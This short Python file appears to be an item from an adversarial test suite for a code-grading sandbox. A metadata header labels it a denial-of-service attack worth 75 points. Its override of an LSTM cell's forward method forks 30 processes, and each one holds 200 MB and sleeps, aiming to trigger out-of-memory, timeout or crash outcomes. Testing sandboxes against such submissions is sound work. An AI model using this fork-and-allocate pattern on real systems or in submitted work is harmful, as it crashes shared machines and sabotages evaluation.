# /// attack
# title = "Memory in many children at once"
# group = "Denial of service"
# verdict = "S"
# points = 75
# loses = ["celdaLSTM/*", "gradientes/lstm_cell", "gradientes/lstm_long"]
# keeps = ["celdaLSTM/parameters", "celdaLSTM/reset_parameters"]
# outcomes = ["out_of_memory", "timeout", "crashed"]
# ///
import os
import time


class celdaLSTM(celdaLSTM):
    def forward(self, x_t, hidden):
        for _ in range(30):
            if os.fork() == 0:
                guardado = bytearray(200 << 20)
                time.sleep(60)
                os._exit(len(guardado) % 2)
        time.sleep(60)
